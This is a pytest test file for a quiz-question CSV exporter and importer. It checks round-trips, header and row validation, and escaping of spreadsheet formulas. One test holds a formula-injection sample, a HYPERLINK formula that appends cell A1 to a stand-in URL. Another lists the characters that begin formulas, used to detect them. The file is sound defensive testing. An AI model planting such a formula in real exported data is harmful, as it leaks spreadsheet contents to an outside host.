"""Tests of assistant.learning.question_csv: out, in again, and harmless in a spreadsheet."""

import csv
import io

import pytest
from hypothesis import given, settings

from assistant.errors import Problem
from assistant.learning import question_csv
from assistant.learning.question_csv import COLUMNS, read_csv, write_csv
from assistant.learning.questions import Kind, Option, Question
from tests.bank_questions import question
from tests.question_strategies import questions


def cells(text: str) -> list[dict[str, str]]:
    """The rows as a spreadsheet reads them."""
    return list(csv.DictReader(io.StringIO(text.removeprefix("\ufeff"), newline="")))


def why_not(row: str, header: str = "kind,question,options,key,accept") -> str:
    """Why the one row of a table is refused."""
    (entry,) = read_csv(f"{header}\n{row}\n")
    assert entry.question is None
    return entry.reason


@settings(max_examples=80, deadline=None)
@given(questions())
def test_what_is_written_comes_back(one: Question) -> None:
    (entry,) = read_csv(write_csv([one]).text)
    assert entry.question == one, entry.reason


@settings(max_examples=40, deadline=None)
@given(questions())
def test_no_cell_of_text_begins_like_a_formula(one: Question) -> None:
    (row,) = cells(write_csv([one]).text)
    for name, cell in row.items():
        assert name in question_csv.NUMBERS or not cell.startswith(("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠"))


def test_a_formula_is_written_with_an_apostrophe_that_is_taken_off_again() -> None:
    evil = question(question='=HYPERLINK("http://example.com?"&A1)', explanation="'=1+1")
    text = write_csv([evil]).text
    assert cells(text)[0]["question"] == '\'=HYPERLINK("http://example.com?"&A1)'
    assert cells(text)[0]["explanation"] == "''=1+1"
    assert next(read_csv(text)).question == evil


def test_a_table_looks_as_documented() -> None:
    text = write_csv([question(kind=Kind.MATCHING)]).text
    assert text.startswith("\ufeff" + ",".join(f'"{name}"' for name in COLUMNS))
    (row,) = cells(text)
    assert (row["options"], row["key"]) == ("a: full-time\nb: 30 days\nc: part-time\nd: 18 days", "a=b\nc=d")
    assert all(name in str(question_csv.__doc__) for name in COLUMNS)


def test_an_id_that_the_table_cannot_hold_is_left_out() -> None:
    odd = question("q2", options=(Option("a: b", "x"), Option("c", "y")), key=("c",))
    written = write_csv([odd, question()])
    assert (written.count, [name for name, _ in written.left_out]) == (1, ["q2"])


@pytest.mark.parametrize("separator", [",", ";"])
def test_a_table_that_a_trainer_wrote_is_read(separator: str) -> None:
    header = separator.join(["Kind", "question", "options", "key"])
    row = separator.join(["single_choice", '"How, or why; when?"', '"a: 30\r\nb: 18"', "a"])
    (entry,) = read_csv(f"{header}\r\n{row}\r\n\r\n")
    assert entry.question is not None, entry.reason
    assert entry.question.options == (Option("a", "30"), Option("b", "18"))
    assert (entry.question.version, entry.question.language, entry.question.evidence.quote) == (1, "en", "")
    assert len(entry.question.id) == 16


def test_a_row_has_the_line_on_which_it_begins() -> None:
    text = 'kind,question,accept\n\ncloze,"a\nb ____",x\nshort_answer,What?,x\n'
    assert [entry.line for entry in read_csv(text)] == [3, 5]


@pytest.mark.parametrize(
    ("row", "reason"),
    [
        ("essay,What?,,,", "'essay' is not a valid Kind"),
        ("single_choice,What?,30,a,", "has no id"),
        ("single_choice,What?,a: 30,a,", "at least two options"),
        ("cloze,What?,,,x", "has one blank"),
        ("short_answer,,,,x", "question are needed"),
        ("short_answer,What?,,,x,y", "6 cells, the header 5"),
    ],
)
def test_a_row_that_cannot_be_taken_says_why(row: str, reason: str) -> None:
    assert reason in why_not(row)


@pytest.mark.parametrize(("name", "value"), [("tolerance", "1,5"), ("page", "iv"), ("checks", "{"), ("version", "x")])
def test_a_cell_that_is_no_number_refuses_its_row_only(name: str, value: str) -> None:
    text = f'kind,question,accept,{name}\nshort_answer,What?,x,"{value}"\nshort_answer,Why?,x,\n'
    refused, taken = read_csv(text)
    assert "cannot be read" in refused.reason
    assert taken.question is not None


@pytest.mark.parametrize("header", ["question,key", "kind,question,colour", "kind,kind,question", ""])
def test_a_header_that_cannot_be_used_is_refused(header: str) -> None:
    with pytest.raises(Problem, match="the header has"):
        list(read_csv(f"{header}\nx,y,z\n"))
